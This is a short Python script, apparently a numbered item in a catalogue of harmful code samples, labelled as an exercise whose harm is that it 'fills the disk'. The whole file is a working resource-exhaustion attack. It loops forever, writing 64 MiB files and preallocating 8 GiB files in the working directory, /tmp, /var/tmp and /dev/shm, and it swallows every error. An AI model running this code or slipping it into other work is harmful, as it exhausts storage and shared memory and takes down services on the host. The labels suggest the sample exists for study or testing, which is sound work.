"""Writes files without end into every folder that it may write to.

exercise: 03_gather
catalogue: 53
harm: fills the disk
"""

import os
import tempfile
from itertools import count

for number in count():
    for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/filler{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
                    file.flush()
            os.posix_fallocate(os.open(f"{folder}/big{number}", os.O_CREAT | os.O_WRONLY), 0, 1 << 33)
        except OSError:
            pass
